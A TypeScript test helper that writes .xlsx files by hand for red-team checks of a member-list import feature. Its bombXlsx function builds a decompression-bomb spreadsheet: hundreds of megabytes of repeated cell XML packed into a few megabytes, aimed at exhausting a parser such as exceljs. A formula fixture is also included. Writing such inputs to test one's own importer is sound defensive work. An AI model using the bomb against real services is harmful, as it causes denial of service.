// Writes .xlsx files for the red-team checks without a spreadsheet library: the sheet's XML is
// produced in chunks and deflated as it goes, so a 340.000 × 100 "Excel bomb" (about 700 MB of XML,
// a few MB zipped) takes seconds and little memory. Only what a reader needs: content types, the
// workbook, one sheet with inline strings, numbers and formulas.
import { createWriteStream, existsSync, renameSync } from "node:fs";
import { crc32, createDeflateRaw } from "node:zlib";

type Entry = { name: string; crc: number; size: number; compressed: Buffer[]; csize: number };

const XML_HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n';
const CONTENT_TYPES = `${XML_HEAD}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>`;
const ROOT_RELS = `${XML_HEAD}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>`;
const WORKBOOK = `${XML_HEAD}<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>`;
const WORKBOOK_RELS = `${XML_HEAD}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`;
const SHEET_HEAD = `${XML_HEAD}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>`;
const SHEET_TAIL = "</sheetData></worksheet>";

/** A cell: text, a number, or a formula with no cached value (what a file saved by a script has). */
export type Cell = string | number | { formula: string };

export function column(n: number): string {
  let s = "";
  for (let c = n + 1; c > 0; c = Math.floor((c - 1) / 26)) s = String.fromCharCode(65 + ((c - 1) % 26)) + s;
  return s;
}

const esc = (s: string) => s.replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/>/g, "&gt;");

function cellXml(ref: string, v: Cell): string {
  if (typeof v === "number") return `<c r="${ref}"><v>${v}</v></c>`;
  if (typeof v === "string") return `<c r="${ref}" t="inlineStr"><is><t>${esc(v)}</t></is></c>`;
  return `<c r="${ref}"><f>${esc(v.formula)}</f></c>`;
}

export function rowXml(rowNo: number, cells: Cell[]): string {
  let s = `<row r="${rowNo}">`;
  for (let i = 0; i < cells.length; i++) s += cellXml(`${column(i)}${rowNo}`, cells[i]);
  return `${s}</row>`;
}

async function deflate(name: string, chunks: Iterable<string>): Promise<Entry> {
  const z = createDeflateRaw({ level: 1 }); // fast: the bomb takes ~3 s
  const compressed: Buffer[] = [];
  let csize = 0;
  z.on("data", (b: Buffer) => (compressed.push(b), (csize += b.length)));
  const done = new Promise((ok, fail) => (z.on("end", ok), z.on("error", fail)));
  let crc = 0;
  let size = 0;
  for (const text of chunks) {
    const b = Buffer.from(text, "utf8");
    crc = crc32(b, crc);
    size += b.length;
    if (!z.write(b)) await new Promise((ok) => z.once("drain", ok));
  }
  z.end();
  await done;
  if (size >= 0xffffffff) throw new Error("tệp quá lớn cho ZIP32");
  return { name, crc, size, compressed, csize };
}

function u16(n: number) {
  const b = Buffer.alloc(2);
  b.writeUInt16LE(n);
  return b;
}
function u32(n: number) {
  const b = Buffer.alloc(4);
  b.writeUInt32LE(n >>> 0);
  return b;
}

/** Writes `path` atomically: a ZIP with the parts of a one-sheet workbook. Returns the XML's size. */
export async function writeXlsx(path: string, rows: Iterable<string>): Promise<{ xmlBytes: number }> {
  function* sheet() {
    yield SHEET_HEAD;
    let batch = "";
    for (const r of rows) {
      batch += r;
      if (batch.length > 1 << 20) {
        yield batch;
        batch = "";
      }
    }
    yield batch + SHEET_TAIL;
  }
  const entries = [
    await deflate("[Content_Types].xml", [CONTENT_TYPES]),
    await deflate("_rels/.rels", [ROOT_RELS]),
    await deflate("xl/workbook.xml", [WORKBOOK]),
    await deflate("xl/_rels/workbook.xml.rels", [WORKBOOK_RELS]),
    await deflate("xl/worksheets/sheet1.xml", sheet()),
  ];
  const tmp = `${path}.part`;
  const out = createWriteStream(tmp);
  const write = (b: Buffer) => new Promise<void>((ok, fail) => out.write(b, (e) => (e ? fail(e) : ok())));
  let offset = 0;
  const central: Buffer[] = [];
  for (const e of entries) {
    const name = Buffer.from(e.name, "utf8");
    const common = [u16(20), u16(0x0800), u16(8), u16(0), u16(0x21), u32(e.crc), u32(e.csize), u32(e.size)];
    const local = Buffer.concat([u32(0x04034b50), ...common, u16(name.length), u16(0), name]);
    central.push(
      Buffer.concat([
        u32(0x02014b50),
        u16(20),
        ...common,
        u16(name.length),
        u16(0),
        u16(0),
        u16(0),
        u16(0),
        u32(0),
        u32(offset),
        name,
      ]),
    );
    await write(local);
    for (const c of e.compressed) await write(c);
    offset += local.length + e.csize;
  }
  const dir = Buffer.concat(central);
  await write(dir);
  await write(
    Buffer.concat([
      u32(0x06054b50),
      u16(0),
      u16(0),
      u16(entries.length),
      u16(entries.length),
      u32(dir.length),
      u32(offset),
      u16(0),
    ]),
  );
  await new Promise((ok) => out.end(ok));
  renameSync(tmp, path);
  return { xmlBytes: entries.reduce((n, e) => n + e.size, 0) };
}

export const IMPORT_HEADERS = ["Họ và tên", "Giới tính", "Ngày vào công đoàn", "Tổ công đoàn"];

/**
 * The bomb: a header row, then `rows` rows × `cols` cells that differ only in the row's number.
 * exceljs needs a reference on every cell but takes the row from the <row> (so every cell says
 * "…1"): the rows repeat, 340.000 × 100 is ~780 MB of XML in an ~11 MB file (deflate level 1, a
 * few seconds). Cached by name.
 */
export async function bombXlsx(path: string, rows = 340_000, cols = 100) {
  if (existsSync(path)) return { cached: true, xmlBytes: 0 };
  const headers: Cell[] = Array.from({ length: cols }, (_, i) => IMPORT_HEADERS[i] ?? `Cột ${i + 1}`);
  const cells = Array.from({ length: cols }, (_, i) => `<c r="${column(i)}1"><v>1</v></c>`).join("");
  function* all() {
    yield rowXml(1, headers);
    for (let r = 2; r <= rows + 1; r++) yield `<row r="${r}">${cells}</row>`;
  }
  const { xmlBytes } = await writeXlsx(path, all());
  return { cached: false, xmlBytes };
}

/** A small member list whose name cell is a formula without a cached value. */
export async function formulaXlsx(path: string) {
  await writeXlsx(path, [
    rowXml(1, IMPORT_HEADERS),
    rowXml(2, [{ formula: 'CONCATENATE("Nguyễn ","Văn Công Thức")' }, "Nam", "01/09/2015", "Toán – Tin"]),
  ]);
}
